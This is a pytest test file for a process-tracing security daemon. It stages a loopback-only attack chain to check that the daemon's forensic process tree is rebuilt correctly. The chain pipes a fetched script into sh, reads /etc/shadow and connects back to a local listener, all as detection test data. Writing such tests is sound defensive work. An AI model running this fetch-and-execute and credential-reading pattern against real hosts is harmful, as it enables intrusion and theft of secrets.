"""The forensic use case end to end: an attack chain recorded by the real daemon, `tracer tree`.

The chain, on loopback only: a "service" process spawns a shell, which
pipes a script fetched by python from a local http.server into `sh`; the
script reads /etc/shadow and connects back to a local listener. The
daemon runs the shipped policy library (the /etc/shadow read) and one
rule posting connects to the two local ports. The same assertions hold
with tiny segments (the log rotates many times in the middle) and across
a daemon restart in the middle of the chain.
"""

from __future__ import annotations

import itertools
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from conftest import REPO, Daemon, new_marker, tracer_cmd

pytestmark = pytest.mark.kernel

LIBRARY = REPO / "policy" / "library"
PY = sys.executable
Node = dict[str, Any]


@dataclass
class Ports:
    http: int
    listener: int


class _Loopback:
    """A local HTTP server with the stage-2 script, and a listener that accepts and closes."""

    def __init__(self, work: Path, marker: str) -> None:
        self.listener = socket.socket()
        self.listener.bind(("127.0.0.1", 0))
        self.listener.listen(8)
        self.accepted = 0
        lport = self.listener.getsockname()[1]
        site = work / "site"
        site.mkdir()
        (site / "stage2.sh").write_text(
            "cat /etc/shadow > /dev/null\n"
            f"{PY} -c 'import socket, sys; socket.create_connection((\"127.0.0.1\", {lport}))'"
            f" back-{marker}\n"
        )
        self.http = subprocess.Popen(
            [PY, "-m", "http.server", "--bind", "127.0.0.1", "0", "--directory", str(site)],
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
            text=True,
        )
        assert self.http.stdout is not None
        line = self.http.stdout.readline()  # "Serving HTTP on 127.0.0.1 port N ..."
        self.ports = Ports(int(line.split(" port ")[1].split()[0]), lport)
        self._t = threading.Thread(target=self._accept, daemon=True)
        self._t.start()

    def _accept(self) -> None:
        while True:
            try:
                c, _ = self.listener.accept()
            except OSError:
                return
            self.accepted += 1
            c.close()

    def close(self) -> None:
        self.http.terminate()
        self.http.wait(5)
        self.listener.close()


def _policy(work: Path, ports: Ports) -> Path:
    p = work / "t-chain.yaml"
    p.write_text(
        "policies:\n  - name: t-chain-connects\n    rules:\n      - event: connect\n"
        f"        match: {{dport: [{ports.http}, {ports.listener}]}}\n        action: post\n"
    )
    return p


class _Service:
    """The 'service': a python process that, when told, spawns the shell of the chain.

    A lingering service stays up after the chain until `finish`: it then
    has no events of its own in the log, only its descendants name it.
    """

    def __init__(self, marker: str, ports: Ports, linger: bool = False) -> None:
        chain = (
            f"{PY} -c 'import sys, urllib.request; "
            "sys.stdout.write(urllib.request.urlopen(sys.argv[1]).read().decode())' "
            f"http://127.0.0.1:{ports.http}/stage2.sh | sh"
        )
        code = (
            "import subprocess, sys\n"
            "sys.stdin.readline()\n"
            f"subprocess.run(['sh', '-c', {chain!r}], check=True)\n"
            "sys.stdin.readline()\n"
        )
        self.linger = linger
        self.proc = subprocess.Popen([PY, "-c", code, f"svc-{marker}"], stdin=subprocess.PIPE)

    def go(self) -> None:
        assert self.proc.stdin is not None
        self.proc.stdin.write(b"go\n")
        self.proc.stdin.flush()
        if not self.linger:
            self.finish()

    def finish(self) -> None:
        assert self.proc.stdin is not None
        self.proc.stdin.close()
        assert self.proc.wait(30) == 0


def _tree(log: Path, *select: str, fmt: str = "json") -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        tracer_cmd("tree", "--from", str(log), "-o", fmt, *select),
        capture_output=True,
        text=True,
        timeout=120,
    )


def _tree_json(log: Path, *select: str) -> dict[str, Any]:
    r = _tree(log, *select)
    assert r.returncode == 0, r.stderr
    out: dict[str, Any] = json.loads(r.stdout)
    return out


def _walk(nodes: list[Node]) -> Iterator[Node]:
    for n in nodes:
        yield n
        yield from _walk(n["children"])


def _path_to(roots: list[Node], exec_id: str) -> list[Node]:
    """The nodes from a root down to exec_id."""
    for r in roots:
        if r["exec_id"] == exec_id:
            return [r]
        below = _path_to(r["children"], exec_id)
        if below:
            return [r, *below]
    return []


def _has_arg(node: Node, text: str) -> bool:
    return any(text in a for a in node["process"]["args"])


def _wait_logged(log: Path, predicate: str, timeout: float = 15.0) -> str:
    """exec_id of the first stored connect whose arguments match the regex."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        r = subprocess.run(
            tracer_cmd("replay", "--from", str(log), "--type", "connect", "--args", predicate),
            capture_output=True,
            text=True,
            timeout=60,
        )
        if r.stdout.strip():
            return str(json.loads(r.stdout.splitlines()[0])["process"]["exec_id"])
        time.sleep(0.5)
    raise AssertionError(f"no stored connect with args matching {predicate!r} in {log}")


def _check_chain(log: Path, marker: str, ports: Ports) -> None:
    # The final connect: the connect-back process, found in the log itself.
    final = _wait_logged(log, f"back-{marker}")
    up = _tree_json(log, "--exec-id", final)
    assert up["selected"] == [final]
    path = _path_to(up["roots"], final)
    assert path, f"selected process not in its own tree: {up}"
    names = [(n["process"]["binary"], n["process"]["args"][:2]) for n in path]
    # ... -> service -> sh -c CHAIN -> sh (the piped script) -> python connect-back
    assert _has_arg(path[-4], f"svc-{marker}"), names
    assert path[-3]["process"]["args"][:2] == ["sh", "-c"], names
    assert path[-2]["process"]["args"] == ["sh"], names
    assert _has_arg(path[-1], f"back-{marker}"), names
    for a, b in itertools.pairwise(path):
        assert b["process"]["parent_exec_id"] in (a["exec_id"], *a["aliases"]), names
    for n in path[-4:]:
        assert not n["partial"], f"{n['process']['args']}: {n['partial_reasons']}"
    conns = [e for e in path[-1]["events"] if e["type"] == "connect"]
    assert [c["connect"]["dport"] for c in conns] == [ports.listener]
    assert path[-1]["exit"] == {"code": 0, "core_dumped": False}

    # The whole attack under the service: every event under its own process.
    svc = path[-4]
    down = _tree_json(log, "--exec-id", svc["exec_id"])
    sub = _path_to(down["roots"], svc["exec_id"])[-1]
    shell = next(c for c in sub["children"] if c["process"]["args"][:2] == ["sh", "-c"])
    fetch = next(c for c in shell["children"] if "urllib" in " ".join(c["process"]["args"]))
    script = next(c for c in shell["children"] if c["process"]["args"] == ["sh"])
    assert [e["connect"]["dport"] for e in fetch["events"] if e["type"] == "connect"] == [
        ports.http
    ]
    cat = next(c for c in script["children"] if c["process"]["binary"].endswith("/cat"))
    opens = [e for e in cat["events"] if e["type"] == "file_open"]
    assert [o["file_open"]["path"] for o in opens] == ["/etc/shadow"]
    assert opens[0]["policy"]["name"] == "credential-files"
    back = next(c for c in script["children"] if _has_arg(c, f"back-{marker}"))
    assert back["exec_id"] == final


@pytest.fixture
def work() -> Iterator[Path]:
    d = Path(tempfile.mkdtemp(prefix="tracer-chain-"))
    yield d
    shutil.rmtree(d, ignore_errors=True)


def _daemon(log: Path, policy: Path, *extra: str) -> Daemon:
    return Daemon(
        "--policy", str(LIBRARY), "--policy", str(policy), "--event-log-dir", str(log), *extra
    )


@pytest.mark.parametrize("segment_size", ["64M", "4K"], ids=["one-segment", "tiny-segments"])
def test_tree_shows_the_attack_chain(work: Path, segment_size: str) -> None:
    marker = new_marker("chain")
    net = _Loopback(work, marker)
    log = work / "events"
    d = _daemon(log, _policy(work, net.ports), "--event-log-segment-size", segment_size)
    try:
        svc = _Service(marker, net.ports)
        svc.go()
        d.sync()
        _check_chain(log, marker, net.ports)
        # The running daemon names its log over the control socket.
        final = _wait_logged(log, f"back-{marker}")
        r = subprocess.run(
            tracer_cmd(
                "tree", "--daemon", "--control-socket", str(d.control_socket), "--exec-id", final
            ),
            capture_output=True, text=True, timeout=120,
        )
        assert r.returncode == 0 and f"exec_id {final}" in r.stdout, r.stderr
        if segment_size == "4K":
            time.sleep(1.5)  # the closer thread compresses what rotated
            closed = list(log.glob("events-*.jsonl.zst"))
            assert len(closed) > 3, sorted(p.name for p in log.iterdir())
    finally:
        assert d.stop() == 0
        net.close()
    _check_chain(log, marker, net.ports)  # and from the closed, compressed log
    assert net.accepted >= 1


def test_tree_across_a_daemon_restart(work: Path) -> None:
    marker = new_marker("restart")
    net = _Loopback(work, marker)
    log = work / "events"
    policy = _policy(work, net.ports)
    first = _daemon(log, policy)
    try:
        # Its exec goes to the first daemon's log; it lingers after the
        # chain, so the second daemon's log names it only as an ancestor.
        svc = _Service(marker, net.ports, linger=True)
        first.wait_for(lambda e: e["type"] == "process_exec" and f"svc-{marker}" in
                       e["process"]["args"])
    finally:
        assert first.stop() == 0
    second = _daemon(log, policy)  # finds the service in /proc: a new exec_id
    try:
        svc.go()
        second.sync()
        _check_chain(log, marker, net.ports)
        svc.finish()
        second.sync()
        _check_chain(log, marker, net.ports)  # and with its exit logged
    finally:
        assert second.stop() == 0
        net.close()
    seqs = sorted(p.name for p in log.glob("events-*.jsonl.zst"))
    assert len(seqs) == 2, seqs


def test_html_renders_the_tree_in_chromium(work: Path) -> None:
    chromium = shutil.which("chromium")
    assert chromium, "chromium is missing: `make test` installs it (APT_PACKAGES)"
    marker = new_marker("html")
    net = _Loopback(work, marker)
    log = work / "events"
    d = _daemon(log, _policy(work, net.ports))
    try:
        _Service(marker, net.ports).go()
        d.sync()
        final = _wait_logged(log, f"back-{marker}")
    finally:
        assert d.stop() == 0
        net.close()
    tree = _tree_json(log, "--binary", "^/usr/bin/(dash|cat)$", "--since", "10m")
    want = {n["exec_id"] for n in _walk(tree["roots"])}
    r = _tree(log, "--binary", "^/usr/bin/(dash|cat)$", "--since", "10m", fmt="html")
    assert r.returncode == 0, r.stderr
    page = work / "tree.html"
    page.write_text(r.stdout)
    assert "data-exec-id" not in r.stdout.split("<script", 1)[0]  # built by the script
    profile = work / "chromium-profile"
    dom = subprocess.run(
        [
            chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
            "--no-first-run", "--disable-background-networking", "--disable-component-update",
            "--disable-sync", f"--user-data-dir={profile}", "--dump-dom", page.as_uri(),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert dom.returncode == 0, dom.stderr[-2000:]
    rendered = set()
    for part in dom.stdout.split('data-exec-id="')[1:]:
        rendered.add(part.split('"', 1)[0])
    assert want <= rendered, want - rendered
    assert final not in want or final in rendered
    assert "/etc/shadow" in dom.stdout  # the event rows, from the inline data
    assert os.path.getsize(page) > 0
